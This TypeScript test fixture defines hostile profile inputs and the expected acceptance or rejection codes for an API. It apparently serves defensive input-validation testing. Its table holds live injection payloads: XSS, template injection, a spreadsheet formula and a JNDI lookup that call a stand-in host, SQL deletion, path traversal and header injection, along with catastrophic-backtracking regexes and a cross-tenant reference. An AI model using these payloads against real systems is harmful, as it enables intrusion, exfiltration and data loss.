import { refused, refusedLater, taken, type HostileFile } from './hostile-file.ts'
import { profile, withPack, withVariable } from './hostile-profile.ts'

/** Texts with a meaning for browsers, spreadsheets, shells, logs, headers or databases. */
const TEXTS: Readonly<Record<string, string>> = {
  'a script': '<script>document.title = 1</script>',
  'an image that loads nothing': '<img src=x onerror=document.write(1)>',
  'a picture that loads': '<svg/onload=document.write(1)>',
  'an attribute': '" autofocus onfocus=document.write(1) x="',
  'an address that is a script': 'javascript:document.write(1)',
  'a template': '{{constructor.constructor("return 1")()}}',
  'a formula': '=HYPERLINK("http://registry.example/?"&A1,"open")',
  'a formula with an at sign': '@SUM(1+1)*cmd',
  'a lookup': '${jndi:ldap://registry.example/a}',
  'a format': '%s%n%x%d',
  'a statement': "'; DELETE FROM profiles; --",
  'a name of a device': 'COM1',
  'dots and slashes': '..\\..\\windows\\win.ini',
  'quotes of a header': 'a"; filename="b.exe',
  'a header that is encoded': "UTF-8''a%0d%0aSet-Cookie%3a b",
}

const asTexts = Object.entries(TEXTS).flatMap(([what, text]) => [
  taken(`${what} as a description`, profile({ description: text })),
  taken(`${what} as a name`, profile({ name: text }), {
    readCodes: undefined,
    statuses: [
      [201, 201],
      [422, 422],
    ],
  }),
])

const README = '# Read me\n\n![logo](javascript:0) <a href="data:text/html,1">x</a>\n'

const REGEXES: Readonly<Record<string, string>> = {
  'that looks ahead': '^(?!a).*$',
  'that looks back': '(?<=a)b',
  'that refers back': String.raw`^(a+)\1$`,
  'of one piece': '^(?>a+)b$',
  'that never gives back': '^a++b$',
  'that is open': '^[a-z',
  'that repeats too often': '^a{1001}$',
  'that repeats repeats': '((a{0,99}){0,99}){0,99}',
}

const BACKTRACKING: Readonly<Record<string, string>> = {
  'of groups in groups': '^(a+)+$',
  'of alternatives': '^(a|a|aa)+$',
  'of many stars': `^${'a*'.repeat(20)}$`,
  'of an e-mail': String.raw`^([a-z0-9]+[._]?)+@([a-z0-9]+[.-]?)+\.[a-z]+$`,
}

const REGEX_FILES: readonly HostileFile[] = [
  ...Object.entries(REGEXES).map(([what, regex]) =>
    refusedLater(`a regex ${what}`, withVariable({ regex, defaultValue: '' }), {
      status: 422,
      code: 'RegexInvalid',
      planCodes: ['RegexInvalid'],
    }),
  ),
  ...Object.entries(BACKTRACKING).map(([what, regex]) =>
    refusedLater(
      `a default that a regex ${what} would backtrack on`,
      withVariable({ regex, defaultValue: `${'a'.repeat(60)}!` }),
      {
        status: 422,
        code: 'ProfileRefused',
        planCodes: ['VariableInvalid'],
      },
    ),
  ),
]

/** A file with macros, as some tools write it. */
const withMacros = (macros: object) => `${profile().slice(0, -1)},"macros":${JSON.stringify(macros)}}`
const circle = { a: 'x{{.spectro.macro.b}}', b: '{{ .spectro.macro.a }}' }

const FOREIGN = '<uid of a registry of another tenant>'

/** Files whose texts are attacks on other programs, or that have invalid rules and references. */
export const TEXT_FILES: readonly HostileFile[] = [
  ...asTexts,
  ...REGEX_FILES,
  taken(
    'a picture in a manifest',
    withPack({ manifests: [{ name: 'readme', content: `a: |\n  ${README.replaceAll('\n', '\n  ')}\n` }] }),
  ),
  refused('macros that are made of each other', withMacros(circle), {
    status: 422,
    code: 'ProfileRefused',
    read: 'MacroCycle',
  }),
  taken(
    'a registry of another tenant',
    withPack({ registry: { metadata: { uid: FOREIGN, name: 'Foreign', kind: 'pack', isPrivate: true } } }),
    {
      statuses: [
        [201, 201],
        [422, 422],
      ],
      codes: ['RegistryNotFound'],
      readCodes: undefined,
      planCodes: ['RegistryNotFound'],
      foreignRegistry: FOREIGN,
    },
  ),
]
